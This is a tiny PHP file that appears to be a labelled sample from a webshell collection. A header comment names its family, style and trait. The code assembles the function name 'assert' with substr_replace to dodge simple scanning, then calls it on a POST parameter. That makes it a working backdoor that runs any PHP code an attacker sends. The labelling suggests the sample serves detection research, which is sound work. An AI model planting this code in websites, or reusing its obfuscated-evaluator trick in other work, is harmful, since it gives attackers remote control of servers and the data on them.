<?php
/* Family: webshell/callback
 * Style: evaluator name built with substr_replace, called on POST data
 * Trait: a variable holding an assembled function name called with a request value as its argument
 */
$k = substr_replace("asZZZ", "sert", 2);
$k($_POST['v']);
